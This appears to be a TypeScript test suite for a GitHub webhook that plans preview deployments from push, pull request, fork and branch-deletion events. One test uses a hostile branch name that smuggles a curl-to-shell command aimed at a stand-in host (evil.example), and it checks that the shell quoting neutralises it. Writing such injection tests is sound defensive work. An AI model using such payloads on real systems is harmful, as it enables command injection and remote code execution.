// The webhook's decisions, on GitHub's own example payloads: which previews a push, a pull request
// event or a branch deletion creates, moves or undeploys, and what it ignores.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { shellWord } from '../../src/controllers/preview/approvals.ts';
import { DELIVERY_ANNOTATION, EVENT_TIME_ANNOTATION } from '../../src/controllers/preview/labels.ts';
import type { PreviewObject, RepositoryObject } from '../../src/controllers/preview/model.ts';
import { PayloadError, parseEvent } from '../../src/server/webhook/event.ts';
import { mergePullRequest, planEvent } from '../../src/server/webhook/plan.ts';
import { RecentDeliveries } from '../../src/server/webhook/recent.ts';
import {
  branchPush,
  deletingPush,
  example,
  fromFork,
  type Payload,
  pullRequest,
} from '../support/github-examples.ts';

const repo = (spec: Partial<RepositoryObject['spec']> = {}): RepositoryObject => ({
  metadata: { name: 'hello', namespace: 'previews' },
  spec: {
    repository: 'Codertocat/Hello-World',
    template: 'web',
    branches: ['master', 'feature/*'],
    pullRequestTargets: ['master'],
    ...spec,
  },
});

const existing = (name: string, spec: Partial<PreviewObject['spec']>, annotations = {}): PreviewObject => ({
  metadata: { name, namespace: 'previews', annotations },
  spec: { repository: 'hello', branch: 'master', commit: 'abcdef0123', ...spec },
});

const plan = (event: string, payload: Payload, r = repo(), previews: PreviewObject[] = []) =>
  planEvent(
    parseEvent(event, payload),
    { delivery: 'd-1', eventTime: payload.pull_request?.updated_at },
    r,
    previews,
  );

describe('push', () => {
  it('a new commit on a matching branch creates a preview of that commit', () => {
    const p = branchPush();
    const { actions } = plan('push', p);
    assert.equal(actions.length, 1);
    const [a] = actions;
    assert.equal(a?.type, 'create');
    assert.equal(a?.type === 'create' && a.preview.metadata.name, `hello-master-${p.after.slice(0, 7)}`);
    assert.deepEqual(a?.type === 'create' && a.preview.spec, {
      repository: 'hello',
      branch: 'master',
      commit: p.after,
    });
    assert.equal(a?.type === 'create' && a.preview.metadata.annotations?.[DELIVERY_ANNOTATION], 'd-1');
  });

  it('keeps the whole branch name, slashes included (runboat cut it at the last /)', () => {
    const p = branchPush();
    p.ref = 'refs/heads/feature/shop/cart';
    const [a] = plan('push', p).actions;
    assert.equal(a?.type === 'create' && a.preview.spec.branch, 'feature/shop/cart');
    assert.equal(
      a?.type === 'create' && a.preview.metadata.name,
      `hello-feature-shop-cart-${p.after.slice(0, 7)}`,
    );
  });

  it('per pull request, pushes to branches still get a preview per commit', () => {
    const [a] = plan('push', branchPush(), repo({ previewPer: 'PullRequest' })).actions;
    assert.equal(a?.type, 'create');
  });

  it('ignores a branch no pattern matches, and tags', () => {
    const p = branchPush();
    p.ref = 'refs/heads/experiment';
    assert.match(plan('push', p).ignored ?? '', /matches none of spec.branches/);
    const tag = example('push', (x) => x.ref.startsWith('refs/tags/') && !x.deleted);
    assert.match(plan('push', tag).ignored ?? '', /not a branch/);
  });

  it('a deleted branch (deleted: true, after 000…) undeploys that branch’s previews only', () => {
    const p = deletingPush();
    p.ref = 'refs/heads/feature/x';
    const previews = [
      existing('a', { branch: 'feature/x', commit: '1111111' }),
      existing('b', { branch: 'feature/x', commit: '2222222' }),
      existing('c', { branch: 'master' }),
      existing('d', { branch: 'feature/x', pullRequest: 3, targetBranch: 'master' }),
      existing('e', { branch: 'feature/x', repository: 'other' }),
    ];
    const { actions } = plan('push', p, repo(), previews);
    assert.deepEqual(
      actions.map((a) => a.type === 'undeploy' && a.name),
      ['a', 'b'],
    );
  });

  it('a zero SHA alone means deletion too, even without deleted: true', () => {
    const p = deletingPush();
    p.ref = 'refs/heads/master';
    p.deleted = false;
    const { actions } = plan('push', p, repo(), [existing('a', {})]);
    assert.equal(actions[0]?.type, 'undeploy');
  });

  it('a deleted tag or a deleted branch without previews changes nothing', () => {
    assert.match(plan('push', deletingPush()).ignored ?? '', /not a branch/);
    const p = deletingPush();
    p.ref = 'refs/heads/gone';
    assert.match(plan('push', p).ignored ?? '', /no preview of deleted branch gone/);
  });
});

describe('pull_request', () => {
  for (const action of ['opened', 'reopened', 'synchronize']) {
    it(`${action}: a preview of the head commit, per commit`, () => {
      const p = pullRequest(action);
      const [a] = plan('pull_request', p).actions;
      assert.equal(a?.type, 'create');
      const preview = a?.type === 'create' ? a.preview : undefined;
      assert.equal(preview?.metadata.name, `hello-pr${p.number}-${p.pull_request.head.sha.slice(0, 7)}`);
      assert.deepEqual(preview?.spec, {
        repository: 'hello',
        branch: p.pull_request.head.ref,
        pullRequest: p.number,
        commit: p.pull_request.head.sha,
        targetBranch: 'master',
      });
      assert.equal(preview?.metadata.annotations?.[EVENT_TIME_ANNOTATION], p.pull_request.updated_at);
    });
    it(`${action}: per pull request, one preview to create or move`, () => {
      const [a] = plan('pull_request', pullRequest(action), repo({ previewPer: 'PullRequest' })).actions;
      assert.equal(a?.type, 'upsert');
      assert.equal(a?.type === 'upsert' && a.preview.metadata.name, 'hello-pr2');
    });
  }

  it('closed, merged or not, undeploys every preview of the pull request', () => {
    const previews = [
      existing('hello-pr2-1111111', { pullRequest: 2, targetBranch: 'master' }),
      existing('hello-pr2-2222222', { pullRequest: 2, targetBranch: 'master' }),
      existing('hello-pr3', { pullRequest: 3, targetBranch: 'master' }),
      existing('hello-master-abcdef0', {}),
    ];
    for (const merged of [false, true]) {
      const p = pullRequest('closed');
      p.pull_request.merged = merged;
      const { actions } = plan('pull_request', p, repo(), previews);
      assert.deepEqual(
        actions.map((a) => a.type === 'undeploy' && a.name),
        ['hello-pr2-1111111', 'hello-pr2-2222222'],
      );
    }
  });

  it('a close that arrives after a reopen leaves the previews the reopen made', () => {
    const p = pullRequest('closed');
    const closedAt = Date.parse(p.pull_request.updated_at);
    const at = (ms: number) => ({ [EVENT_TIME_ANNOTATION]: new Date(closedAt + ms).toISOString() });
    const previews = [
      existing('hello-pr2-1111111', { pullRequest: 2, targetBranch: 'master' }, at(-60_000)),
      existing('hello-pr2-2222222', { pullRequest: 2, targetBranch: 'master' }, at(0)),
      existing('hello-pr2-3333333', { pullRequest: 2, targetBranch: 'master' }, at(60_000)),
      existing('hello-pr2-4444444', { pullRequest: 2, targetBranch: 'master' }),
    ];
    assert.deepEqual(
      plan('pull_request', p, repo(), previews).actions.map((a) => a.type === 'undeploy' && a.name),
      ['hello-pr2-1111111', 'hello-pr2-2222222', 'hello-pr2-4444444'],
    );
    assert.match(
      plan('pull_request', p, repo(), [previews[2] as PreviewObject]).ignored ?? '',
      /from before this event/,
    );
  });

  it('a pull request into a branch outside pullRequestTargets is ignored', () => {
    const r = repo({ pullRequestTargets: ['release/*'] });
    assert.match(
      plan('pull_request', pullRequest('opened'), r).ignored ?? '',
      /matches none of spec.pullRequestTargets/,
    );
  });

  it('other actions (labeled, assigned, edited) change nothing', () => {
    for (const action of ['labeled', 'assigned', 'ready_for_review'])
      assert.match(plan('pull_request', pullRequest(action)).ignored ?? '', /changes no preview/);
  });
});

describe('pull requests from forks', () => {
  const fork = (action: string, head: string | null = 'octocat/Hello-World') =>
    fromFork(pullRequest(action), head);

  it('the same repository, whatever the case of its name, is not a fork', () => {
    const p = pullRequest('opened');
    p.pull_request.head.repo.full_name = 'codertocat/hello-world';
    assert.equal(plan('pull_request', p).actions[0]?.type, 'create');
  });

  for (const action of ['opened', 'reopened', 'synchronize'])
    for (const previewPer of ['Commit', 'PullRequest'] as const)
      it(`${action}, per ${previewPer}: ignored by default, with the command that approves the commit`, () => {
        const p = fork(action);
        const r = repo({ previewPer });
        const result = plan('pull_request', p, r, [
          existing('hello-pr2', { pullRequest: 2, targetBranch: 'master' }),
        ]);
        assert.deepEqual(result.actions, []);
        assert.deepEqual(result.awaitingApproval, {
          number: 2,
          commit: p.pull_request.head.sha,
          branch: p.pull_request.head.ref,
          targetBranch: 'master',
          fork: 'octocat/Hello-World',
          updatedAt: p.pull_request.updated_at,
        });
        assert.match(
          result.ignored ?? '',
          /comes from the fork octocat\/Hello-World and spec.forkPolicy is Ignore/,
        );
        assert.ok(
          result.ignored?.includes(
            `bosun preview create -n previews --repository hello --pr 2 --branch ${p.pull_request.head.ref} --target-branch master --commit ${p.pull_request.head.sha}`,
          ),
        );
        assert.deepEqual(plan('pull_request', p, repo({ previewPer, forkPolicy: 'Ignore' })).actions, []);
      });

  it('the command quotes what the fork chose: its branch cannot run anything when pasted', () => {
    const p = fork('opened');
    p.pull_request.head.ref = "x;curl$(id).evil.example|sh;it's";
    const command = /create its preview: (.*)$/.exec(plan('pull_request', p).ignored ?? '')?.[1] ?? '';
    assert.ok(command.includes(`--branch 'x;curl$(id).evil.example|sh;it'\\''s' `), command);
    // The shell hands the words back as they were, and runs nothing else.
    const words = spawnSync('sh', ['-c', `printf '%s\\n' ${command}`], { encoding: 'utf8' }).stdout.split(
      '\n',
    );
    assert.equal(words[words.indexOf('--branch') + 1], p.pull_request.head.ref);
    assert.equal(words.length, 16, words.join(' | '));
  });

  const words: [string, string][] = [
    ['feature/cart-v2', 'feature/cart-v2'],
    ['', "''"],
    ['a b', "'a b'"],
    ['$(id)', "'$(id)'"],
    ["it's", "'it'\\''s'"],
  ];
  for (const [word, quoted] of words)
    it(`shellWord(${JSON.stringify(word)}) is ${quoted}`, () => assert.equal(shellWord(word), quoted));

  it('a deleted fork (head.repo null) is a fork, listed with an empty fork name', () => {
    const result = plan('pull_request', fork('synchronize', null));
    assert.match(result.ignored ?? '', /the fork \(deleted\)/);
    assert.equal(result.awaitingApproval?.fork, '');
  });

  it('forkPolicy Preview: a preview like any pull request, with forkTemplate when set', () => {
    const allowed = plan('pull_request', fork('opened'), repo({ forkPolicy: 'Preview' }));
    assert.equal(allowed.awaitingApproval, undefined);
    const [plain] = allowed.actions;
    assert.equal(plain?.type === 'create' && plain.preview.spec.template, undefined);
    const r = repo({ forkPolicy: 'Preview', forkTemplate: 'untrusted', previewPer: 'PullRequest' });
    const [a] = plan('pull_request', fork('synchronize'), r).actions;
    assert.equal(a?.type, 'upsert');
    assert.equal(a?.type === 'upsert' && a.preview.spec.template, 'untrusted');
    // The repository's own pull requests keep the repository's template.
    const [own] = plan('pull_request', pullRequest('opened'), r).actions;
    assert.equal(own?.type === 'upsert' && own.preview.spec.template, undefined);
  });

  it('closed undeploys the previews of a fork’s pull request, whatever forkPolicy says', () => {
    const previews = [existing('hello-pr2-1111111', { pullRequest: 2, targetBranch: 'master' })];
    const closed = fork('closed');
    for (const forkPolicy of ['Ignore', 'Preview']) {
      const result = plan('pull_request', closed, repo({ forkPolicy }), previews);
      assert.deepEqual(
        result.actions.map((a) => a.type),
        ['undeploy'],
      );
      assert.deepEqual(result.forkClosed, { number: 2, updatedAt: closed.pull_request.updated_at });
    }
    assert.equal(plan('pull_request', pullRequest('closed'), repo(), previews).forkClosed, undefined);
  });
});

describe('delete, ping and the rest', () => {
  it('delete of a branch undeploys its previews; of a tag, nothing', () => {
    const d = example('delete');
    assert.match(plan('delete', d).ignored ?? '', /a tag, not a branch/);
    d.ref_type = 'branch';
    d.ref = 'feature/x';
    const { actions } = plan('delete', d, repo(), [
      existing('a', { branch: 'feature/x' }),
      existing('b', {}),
    ]);
    assert.deepEqual(
      actions.map((a) => a.type === 'undeploy' && a.name),
      ['a'],
    );
  });

  it('ping and unknown events are ignored', () => {
    assert.equal(
      plan(
        'ping',
        example('ping', (p) => !!p.repository),
      ).ignored,
      'ping',
    );
    assert.match(plan('issues', { repository: { full_name: 'a/b' } }).ignored ?? '', /not one previews use/);
  });

  it('previews already being undeployed are not undeployed again', () => {
    const gone = existing('a', { pullRequest: 2, targetBranch: 'master' });
    gone.metadata.deletionTimestamp = '2026-01-01T00:00:00Z';
    assert.equal(plan('pull_request', pullRequest('closed'), repo(), [gone]).actions.length, 0);
  });
});

describe('payloads without the fields needed', () => {
  const cases: [string, string, (p: Payload) => void][] = [
    ['push', 'repository.full_name', (p) => delete p.repository],
    ['push', 'ref', (p) => delete p.ref],
    ['push', 'after', (p) => (p.after = 'not-a-sha')],
    ['pull_request', 'head.sha', (p) => delete p.pull_request.head.sha],
    ['pull_request', 'number', (p) => delete p.number && delete p.pull_request.number],
    ['pull_request', 'base.ref', (p) => (p.pull_request.base.ref = 42)],
    // GitHub sends head.repo, null for a deleted fork: missing, it is not GitHub's payload.
    ['pull_request', 'head.repo', (p) => delete p.pull_request.head.repo],
    ['delete', 'ref_type', (p) => delete p.ref_type],
  ];
  for (const [event, what, spoil] of cases)
    it(`${event} without a valid ${what} is a PayloadError`, () => {
      const p =
        event === 'push' ? branchPush() : event === 'delete' ? example('delete') : pullRequest('opened');
      spoil(p);
      assert.throws(() => parseEvent(event, p), PayloadError);
    });
  it('a payload that is not an object', () => {
    assert.throws(() => parseEvent('push', [1, 2]), PayloadError);
    assert.throws(() => parseEvent('push', null), PayloadError);
  });
});

describe('mergePullRequest: replays and order', () => {
  const incoming = (commit: string, at: string, delivery = `d-${commit}`): PreviewObject =>
    existing(
      'hello-pr2',
      { pullRequest: 2, targetBranch: 'master', commit },
      {
        [DELIVERY_ANNOTATION]: delivery,
        [EVENT_TIME_ANNOTATION]: at,
      },
    );
  const applied = incoming('bbbbbbb', '2026-05-01T10:00:05Z');
  const table: [string, PreviewObject | undefined, PreviewObject, string][] = [
    ['nothing there: create', undefined, incoming('aaaaaaa', '2026-05-01T10:00:00Z'), 'create'],
    ['a newer event moves the commit', applied, incoming('ccccccc', '2026-05-01T10:00:09Z'), 'update'],
    [
      'the same delivery again changes nothing',
      applied,
      incoming('ccccccc', '2026-05-01T10:00:09Z', 'd-bbbbbbb'),
      'skip',
    ],
    [
      'an older event never overwrites a newer commit',
      applied,
      incoming('aaaaaaa', '2026-05-01T10:00:00Z'),
      'skip',
    ],
    [
      'the same commit again changes nothing',
      applied,
      incoming('bbbbbbb', '2026-05-01T10:00:05Z', 'other'),
      'skip',
    ],
    [
      'a preview being undeployed is left alone',
      { ...applied, metadata: { ...applied.metadata, deletionTimestamp: '2026-05-01T10:01:00Z' } },
      incoming('ccccccc', '2026-05-01T10:00:09Z'),
      'skip',
    ],
  ];
  for (const [what, have, want, expected] of table)
    it(what, () => assert.equal(mergePullRequest(have, want).do, expected));

  it('a burst in any order converges to the newest commit', () => {
    const events = Array.from({ length: 20 }, (_, i) =>
      incoming(`${i}`.padStart(7, 'a'), new Date(Date.UTC(2026, 4, 1, 10, 0, i)).toISOString()),
    );
    for (let seed = 0; seed < 10; seed++) {
      const shuffled = [...events].sort(
        (a, b) =>
          ((a.spec.commit.charCodeAt(6) * 31 + seed * 7) % 17) -
          ((b.spec.commit.charCodeAt(6) * 31 + seed * 7) % 17),
      );
      let state: PreviewObject | undefined;
      for (const e of shuffled) if (mergePullRequest(state, e).do !== 'skip') state = e;
      assert.equal(state?.spec.commit, events.at(-1)?.spec.commit);
    }
  });
});

describe('RecentDeliveries', () => {
  it('remembers the latest ids up to its limit', () => {
    const r = new RecentDeliveries(3);
    for (const id of ['a', 'b', 'c', 'd']) r.add(id);
    assert.equal(r.has('a'), false);
    assert.ok(r.has('b') && r.has('d'));
  });
});
